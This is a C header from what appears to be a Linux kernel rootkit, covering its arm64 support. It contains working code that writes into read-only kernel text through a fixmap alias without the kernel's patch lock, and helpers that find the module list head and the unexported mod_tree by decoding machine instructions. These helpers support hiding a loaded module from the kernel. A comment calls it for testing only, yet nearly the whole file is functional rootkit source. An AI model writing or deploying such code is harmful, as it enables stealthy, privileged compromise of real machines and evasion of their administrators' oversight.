/* SPDX-License-Identifier: GPL-2.0 */
/*
 * rkit64.h - the arm64 part of ../rkit.h (which includes it; rkit_lookup,
 * rkit_hide/unhide and rkit_tree_erase/insert are there, one for both
 * architectures).
 *
 * rkit_poke(dst, src, len): a copy into the kernel image (text or
 * read-only data, within one page) through a writable alias of its page
 * at the fixmap slot FIX_TEXT_POKE0 (what the kernel's own text patching
 * uses), mapped with __set_fixmap (found with rkit_lookup), interrupts
 * off; an aligned 4 or 8 bytes in one store; the instruction cache is
 * cleaned when dst is core text.  The kernel's patch_lock is static:
 * like real rootkits, this goes without it (the test guest is quiet).
 * rkit_find_head(): the modules list's head, the one entry that is no
 * module's memory.  rkit_find_mod_tree(): mod_tree is no kallsyms symbol
 * here (Debian's arm64 kernel has no CONFIG_KALLSYMS_ALL: functions only),
 * so it is found the way the kernel's own code reaches it:
 * __module_address reads mod_tree.addr_min with an adrp and an add or
 * ldr.  A candidate is used only when the root of its first latch copy is
 * the top of the tree this module's own node hangs in; otherwise NULL
 * (rkit_tree_erase fails, -ENOENT).
 * RKIT_SYS(name): the symbol of syscall name's entry point
 * ("__arm64_sys_sysinfo").  For testing only.
 */
#ifndef RKIT64_H
#define RKIT64_H
#ifndef RKIT_H
#error "include ../rkit.h: it includes this with what the arches share"
#endif

#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/uaccess.h>
#include <asm/cacheflush.h>
#include <asm/fixmap.h>
#include <asm/memory.h>
#include <asm/sections.h>

#define RKIT_SYS(name) "__arm64_sys_" #name

/* whether a is inside a module's memory: __module_address, unexported
 * since 5.x, found with rkit_lookup (0 and true when it cannot be found) */
static bool rkit_in_module(unsigned long a)
{
	static struct module *(*mod_address)(unsigned long);
	bool in;

	if (!mod_address)
		mod_address = (void *)rkit_lookup("__module_address");
	if (!mod_address)
		return true;
	preempt_disable();
	in = mod_address(a) != NULL;
	preempt_enable();
	return in;
}

typedef void (*rkit_set_fixmap_fn)(enum fixed_addresses, phys_addr_t, pgprot_t);

static int __maybe_unused rkit_poke(void *dst, const void *src, size_t len)
{
	static rkit_set_fixmap_fn rkit_setfix;
	unsigned long a = (unsigned long)dst, off = a & ~PAGE_MASK, flags;
	unsigned long stext = rkit_lookup("_stext"), etext = rkit_lookup("_etext");
	void *alias;

	if (!rkit_setfix)
		rkit_setfix = (rkit_set_fixmap_fn)rkit_lookup("__set_fixmap");
	if (!rkit_setfix || !stext || off + len > PAGE_SIZE)
		return -EINVAL;
	/* an address of the kernel image: its physical page is va - kimage_voffset */
	if (a < stext || a >= stext + SZ_1G || rkit_in_module(a))
		return -EFAULT;
	local_irq_save(flags);
	rkit_setfix(FIX_TEXT_POKE0, (a - kimage_voffset) & PAGE_MASK, FIXMAP_PAGE_NORMAL);
	alias = (void *)(__fix_to_virt(FIX_TEXT_POKE0) + off);
	if (len == 8 && !(a & 7))
		WRITE_ONCE(*(u64 *)alias, *(const u64 *)src);
	else if (len == 4 && !(a & 3))
		WRITE_ONCE(*(u32 *)alias, *(const u32 *)src);
	else
		memcpy(alias, src, len);
	rkit_setfix(FIX_TEXT_POKE0, 0, FIXMAP_PAGE_CLEAR);
	local_irq_restore(flags);
	if (a < etext)
		caches_clean_inval_pou(a, a + len);
	return 0;
}

/* the one entry of the modules list that is no module's memory (modules
 * lie anywhere in a 2 GiB window around the kernel on arm64, not only in
 * [MODULES_VADDR, MODULES_END)) */
static struct list_head *rkit_find_head(void)
{
	struct list_head *p, *head = NULL;
	int n = 0;

	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
		if (!rkit_in_module((unsigned long)p)) {
			head = p;
			break;
		}
	return head;
}

/* whether t's first copy's root is the top of the tree our node is in
 * (t read without faulting: a wrong guess is only a wrong guess) */
static bool rkit_tree_is(unsigned long t)
{
	struct rb_node *top = &THIS_MODULE->core_layout.mtn.node.node[0];
	struct latch_tree_root r;

	while (rb_parent(top))
		top = rb_parent(top);
	return !copy_from_kernel_nofault(&r, (void *)t, sizeof(r)) && r.tree[0].rb_node == top;
}

static struct latch_tree_root *rkit_find_mod_tree(void)
{
	u32 *code = (u32 *)rkit_lookup("__module_address");
	unsigned long val[32] = { 0 };
	u32 known = 0;
	int i, j;

	if (!code)
		return NULL;
	for (i = 0; i < 24; i++) {
		u32 in = code[i];
		unsigned int rd = in & 0x1f, rn = (in >> 5) & 0x1f;
		unsigned long pc = (unsigned long)&code[i], a;

		if ((in & 0x9f000000) == 0x90000000) {		/* adrp */
			long imm = (long)(((in >> 5) & 0x7ffff) << 2 | ((in >> 29) & 3)) << 43 >> 43;

			val[rd] = (pc & ~0xfffUL) + imm * 4096;
			known |= 1u << rd;
			continue;
		}
		if ((in & 0xffc00000) == 0x91000000 && (known >> rn & 1))	/* add #imm */
			a = val[rn] + ((in >> 10) & 0xfff);
		else if ((in & 0xffc00000) == 0xf9400000 && (known >> rn & 1))	/* ldr x, [#imm] */
			a = val[rn] + ((in >> 10) & 0xfff) * 8;
		else
			continue;
		/* mod_tree itself, or its addr_min / addr_max after the root */
		for (j = 0; j < 3; j++) {
			unsigned long t = a - (j ? sizeof(struct latch_tree_root) + 8 * (j - 1) : 0);

			if (rkit_tree_is(t))
				return (struct latch_tree_root *)t;
		}
	}
	return NULL;
}

#endif
